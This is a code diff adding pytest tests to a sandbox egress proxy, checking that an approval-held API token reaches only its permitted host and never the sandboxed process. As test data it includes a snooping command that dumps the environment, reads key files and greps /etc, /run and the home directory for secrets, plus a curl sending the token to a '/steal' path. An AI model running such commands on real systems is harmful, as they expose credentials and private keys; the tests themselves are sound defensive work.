@@ -2,9 +2,11 @@
 
 from __future__ import annotations
 
+import base64
 import dataclasses
 import threading
 from collections.abc import Callable, Iterator
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -17,11 +19,12 @@ from bastion.audit.ledger import Ledger
 from bastion.audit.store import MemoryLedgerStore
 from bastion.exec import BubblewrapRunner, ExecConfig
 from bastion.exec.egress import EgressSession, StaticDialer
+from bastion.exec.egress.held import HeldSecret, hold
 from bastion.policy.compiled import Policy
 from bastion.policy.engine import Gate
 from bastion.policy.network import StaticResolver
 from bastion.runtime import Gatekeeper
-from tests.exec.egress_helpers import FAKE_ADDRESSES, Seen, Upstream, start_upstream
+from tests.exec.egress_helpers import FAKE_ADDRESSES, Seen, Upstream, make_test_ca, start_upstream
 from tests.exec.sandbox_helpers import spec_for
 
 POLICY = '[network]\nallow_hosts = ["allowed.test", "held.test"]\ndeny_hosts = ["denied.test"]\n'
@@ -178,3 +181,116 @@ def test_an_asked_host_a_person_rejects_is_never_reached(
         answering.join()
     assert (code, out.endswith("[403]"), upstreams["asked.test"].seen) == (0, True, [])
     assert "refused" in out and "denied by a person" in out
+
+
+HELD_POLICY = POLICY + '[exec.secrets.API_TOKEN]\nhosts = ["held.test"]\napproval = "hold"\n'
+#: What the sandboxed process shows of itself: its whole environment, every file of the
+#: proxy's directory, and any file under its reachable trees holding the secret.
+SNOOP = (
+    "env; cat /run/bastion-egress/*.pem /run/bastion-egress/forward.py; "
+    'grep -rlI --exclude-dir=proc -e s3cr3t /run /tmp "$HOME" . /etc 2>/dev/null; '
+    "cat /proc/self/environ | tr '\\0' '\\n'; echo ---; "
+)
+
+
+def held_secret(policy: Policy) -> HeldSecret:
+    (binding,) = policy.exec.held
+    return hold(binding.name, SECRET, binding.hosts)
+
+
+def test_a_held_secret_reaches_its_host_only_after_approval_and_never_the_sandbox(
+    runner: BubblewrapRunner,
+    make_policy: Callable[..., Policy],
+    child_env: dict[str, str],
+    upstreams: dict[str, Upstream],
+) -> None:
+    policy = make_policy(HELD_POLICY)
+    keeper = make_keeper(policy)
+    secret = held_secret(policy)
+    approver = Approver(keeper, upstreams["held.test"])
+    command = SNOOP + 'curl -sS -H "Authorization: Bearer $API_TOKEN" http://held.test/api'
+    with session(keeper, upstreams, held=[secret], on_parked=approver.on_parked) as egress:
+        answering = approver.answer_in_background()
+        code, out = run(runner, policy, egress, child_env, command)
+        answering.join()
+    assert code == 0 and out.endswith("---\nhello from held.test GET /api\n")
+    assert SECRET not in out and "s3cr3t" not in out
+    assert f"API_TOKEN={secret.placeholder}\n" in out
+    # The hold asks even though [network] allows held.test; nothing arrived before the answer.
+    assert [(r.evaluation.reasons[0].rule, r.summary) for r in approver.requests] == [
+        ("egress.hold", "fetch: GET http://held.test:80/")
+    ]
+    assert approver.seen_before == []
+    (seen,) = upstreams["held.test"].seen
+    assert seen.headers["Authorization"] == f"Bearer {SECRET}"
+
+
+def test_a_held_secret_sent_to_another_host_stays_a_placeholder(
+    runner: BubblewrapRunner,
+    make_policy: Callable[..., Policy],
+    child_env: dict[str, str],
+    upstreams: dict[str, Upstream],
+) -> None:
+    policy = make_policy(HELD_POLICY)
+    secret = held_secret(policy)
+    command = 'curl -sS -u "me:$API_TOKEN" http://allowed.test/steal'
+    with session(make_keeper(policy), upstreams, held=[secret]) as egress:
+        code, out = run(runner, policy, egress, child_env, command)
+    assert (code, out) == (0, "hello from allowed.test GET /steal\n")
+    (seen,) = upstreams["allowed.test"].seen
+    expected = base64.b64encode(f"me:{secret.placeholder}".encode()).decode()
+    assert seen.headers["Authorization"] == f"Basic {expected}"
+
+
+def test_a_held_secret_a_person_refused_never_leaves(
+    runner: BubblewrapRunner,
+    make_policy: Callable[..., Policy],
+    child_env: dict[str, str],
+    upstreams: dict[str, Upstream],
+) -> None:
+    policy = make_policy(HELD_POLICY)
+    keeper = make_keeper(policy)
+    approver = Approver(keeper, approve=False)
+    command = 'curl -sS -w " [%{http_code}]" -H "X-Key: $API_TOKEN" http://held.test/api'
+    with session(keeper, upstreams, held=[held_secret(policy)], on_parked=approver.on_parked) as egress:
+        answering = approver.answer_in_background()
+        code, out = run(runner, policy, egress, child_env, command)
+        answering.join()
+    assert (code, out.endswith(" [403]"), upstreams["held.test"].seen) == (0, True, [])
+
+
+def test_a_held_secret_goes_into_https_only_inside_the_intercepted_tunnel(
+    runner: BubblewrapRunner,
+    make_policy: Callable[..., Policy],
+    child_env: dict[str, str],
+    upstreams: dict[str, Upstream],
+    tmp_path: Path,
+) -> None:
+    server_tls, client_tls = make_test_ca(tmp_path, "held.test")
+    tls_upstream = start_upstream("held.test", tls=server_tls)
+    policy = make_policy(HELD_POLICY)
+    keeper = make_keeper(policy)
+    secret = held_secret(policy)
+    approver = Approver(keeper, tls_upstream)
+    resolver = StaticResolver({host: [FAKE_ADDRESSES[host]] for host in FAKE_ADDRESSES})
+    dialer = StaticDialer({(FAKE_ADDRESSES["held.test"], 443): ("127.0.0.1", tls_upstream.port)})
+    command = SNOOP + 'curl -sS -u "me:$API_TOKEN" https://held.test/secure'
+    try:
+        with EgressSession(
+            keeper,
+            resolver=resolver,
+            dialer=dialer,
+            upstream_tls=client_tls,
+            held=[secret],
+            on_parked=approver.on_parked,
+        ) as egress:
+            answering = approver.answer_in_background()
+            code, out = run(runner, policy, egress, child_env, command)
+            answering.join()
+    finally:
+        tls_upstream.close()
+    assert code == 0 and out.endswith("---\nhello from held.test GET /secure\n"), out
+    assert SECRET not in out and "s3cr3t" not in out
+    assert approver.seen_before == []
+    (seen,) = tls_upstream.seen
+    assert seen.headers["Authorization"] == "Basic " + base64.b64encode(f"me:{SECRET}".encode()).decode()
